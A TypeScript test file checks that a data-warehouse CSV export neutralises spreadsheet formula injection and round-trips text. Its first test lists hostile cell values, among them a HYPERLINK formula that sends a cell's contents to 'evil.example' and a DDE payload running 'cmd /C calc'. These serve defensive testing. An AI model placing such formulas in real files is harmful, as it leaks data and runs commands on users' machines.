import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportQuery } from './export.ts'
import { openWarehouse, type Warehouse } from './warehouse.ts'
import { testFolder } from '../testing/test-folder.ts'

let warehouse: Warehouse
const folder = testFolder()

beforeAll(async () => {
  warehouse = await openWarehouse({ location: ':memory:', threads: 2 })
})
afterAll(() => {
  warehouse.close()
})

async function csvOf(texts: readonly string[]): Promise<{ raw: string; cells: string[] }> {
  const file = join(folder, 'texts.csv')
  const query = `SELECT r.at AS "at", r.text AS text, -1.5 AS number FROM (SELECT unnest(from_json('${JSON.stringify(
    texts.map((text, at) => ({ at, text })),
  ).replaceAll("'", "''")}', '[{"at":"INTEGER","text":"VARCHAR"}]')) AS r)`
  await exportQuery(warehouse, query, file, { orderBy: '"at"', format: 'csv', foreignTexts: ['text'] })
  const raw = readFileSync(file, 'utf8')
  const rows = parse(raw, { columns: true }) as { text: string; number: string }[]
  expect(new Set(rows.map(({ number }) => number))).toEqual(new Set(texts.length > 0 ? ['-1.5'] : []))
  return { raw, cells: rows.map(({ text }) => text) }
}

describe('a CSV file', () => {
  it('has no cell that a spreadsheet computes, whatever others wrote, and no number changes', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Villa")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1)',
      '\tx',
      '\r=1+1',
      '\n=1+1',
      '＝1+1',
      'Villa;=1+1',
      'Villa",=1+1,"',
      'Ordinary title',
    ]
    const { raw, cells } = await csvOf(hostile)
    expect(cells.slice(0, 8)).toEqual(hostile.slice(0, 8).map((text) => `'${text}`))
    expect(cells.slice(8)).toEqual(hostile.slice(8))
    // With another separator, or one in the text, the cell stays one.
    expect(raw).toContain('"Villa;=1+1"')
    expect(raw).toContain('"Villa"",=1+1,"""')
  })

  it('gives every text back, less the apostrophe', async () => {
    const texts = fc.array(fc.string({ minLength: 1, maxLength: 20, unit: 'grapheme' }), {
      minLength: 1,
      maxLength: 20,
    })
    await fc.assert(
      fc.asyncProperty(texts, async (written) => {
        const readable = written.map((text) => text.replaceAll('\0', '?'))
        const { cells } = await csvOf(readable)
        expect(cells.map((cell, at) => (cell === readable[at] ? cell : cell.replace(/^'/, '')))).toEqual(readable)
        expect(cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([])
      }),
      { numRuns: 50 },
    )
  })

  it('has a list as one text, and Parquet the list', async () => {
    const options = { orderBy: 'x', lists: ['x'] }
    await exportQuery(warehouse, `SELECT ['a', 'b'] AS x`, join(folder, 'l.csv'), { ...options, format: 'csv' })
    expect(readFileSync(join(folder, 'l.csv'), 'utf8')).toBe('"x"\n"a|b"\n')
    await exportQuery(warehouse, `SELECT ['=a', 'b'] AS x`, join(folder, 'l.parquet'), {
      ...options,
      format: 'parquet',
    })
    expect(await warehouse.all(`SELECT x FROM '${join(folder, 'l.parquet')}'`)).toEqual([{ x: ['=a', 'b'] }])
  })
})
